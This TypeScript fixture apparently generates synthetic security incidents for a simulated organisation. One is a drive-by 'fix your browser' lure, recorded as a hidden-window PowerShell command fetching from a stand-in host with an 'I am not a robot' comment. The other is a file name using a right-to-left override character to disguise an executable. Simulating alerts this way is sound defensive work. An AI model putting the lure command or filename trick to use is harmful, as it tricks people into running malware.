import { deviceSeen } from "../build/device.ts";
import { fileSeen, type SampleFile, SYSTEM_FILES } from "../build/file.ts";
import { urlSeen } from "../build/network.ts";
import { processSeen, startProcess } from "../build/process.ts";
import { SOURCES } from "../build/sources.ts";
import type { Story } from "../build/story.ts";
import { DEVICES } from "../tenant/devices.ts";
import { PEOPLE } from "../tenant/people.ts";

const update: SampleFile = {
  name: "Browser_Update_131.js",
  path: "C:\\Users\\mlindqvist\\Downloads",
  size: 27_104,
};
const shortcut: SampleFile = {
  name: "prices_\u202excod.exe",
  path: "C:\\Users\\lhaddad\\Desktop",
  size: 388_096,
};

/** A page about oven parts says that the browser is out of date. */
export const driveByDownload: Story = {
  incidentId: 5133,
  begins: "2026-10-28T12:20:31Z",
  tell(scene) {
    const paste = startProcess(scene, {
      on: DEVICES.lt0401,
      file: SYSTEM_FILES.powershell,
      commandLine:
        "powershell -w h -c \"$u='https://fix-browser.example/v'; iwr $u | Out-Null # I am not a robot ✅\"",
      at: 48,
      as: PEOPLE.marta,
    });
    return {
      assignedTo: PEOPLE.ana.userPrincipalName,
      judged: ["truePositive", "malware"],
      resolvingComment: "Nothing ran after the first line; page reported.",
      remarks: [
        {
          at: 3_000,
          by: PEOPLE.ana.userPrincipalName,
          text: "She pasted what the page told her to. Short training booked.",
        },
      ],
      alerts: [
        {
          source: SOURCES.smartScreen,
          title: "Visit to a page that is known to spread malware",
          description: "The browser warned of a page.",
          category: "InitialAccess",
          severity: "informational",
          mitre: ["T1189"],
          activity: [0, 0],
          raised: 33,
          closed: 3_100,
          evidence: (seen) => [
            deviceSeen(seen, DEVICES.lt0401),
            urlSeen(seen, "https://oven-parts.example/blog/?p=1907", {
              verdict: "malicious",
              remediationStatus: "blocked",
            }),
          ],
        },
        {
          source: SOURCES.endpoint,
          title: "Command was pasted from a web page",
          description: "A person was led to paste a command into the run box.",
          category: "Execution",
          severity: "medium",
          mitre: ["T1204.004", "T1059.001"],
          activity: [48, 50],
          raised: 170,
          closed: 3_100,
          investigation: [130, "successfullyRemediated"],
          evidence: (seen) => [
            deviceSeen(seen, DEVICES.lt0401, {}, "low"),
            processSeen(seen, paste, { verdict: "malicious", remediationStatus: "prevented" }, "prevented"),
            fileSeen(seen, DEVICES.lt0401, update, { verdict: "malicious", remediationStatus: "remediated" }),
          ],
        },
      ],
    };
  },
};

/** A file whose name turns itself around (U+202E) arrives on a stick of prices. */
export const turnedFileName: Story = {
  incidentId: 5163,
  begins: "2026-11-17T08:14:55Z",
  tell: () => ({
    tags: ["قائمة الأسعار"],
    alerts: [
      {
        source: SOURCES.endpoint,
        title: "File name hides its true ending (قائمة الأسعار)",
        description:
          "A name holds a character that turns the order of letters around, so that a program looks like a document.",
        category: "DefenseEvasion",
        severity: "medium",
        mitre: ["T1036.002"],
        activity: [0, 0],
        raised: 204,
        investigation: [151, "queued"],
        evidence: (seen) => [
          deviceSeen(seen, DEVICES.lt0409, {}, "medium"),
          fileSeen(seen, DEVICES.lt0409, shortcut, { remediationStatus: "pendingApproval" }),
        ],
      },
    ],
  }),
};
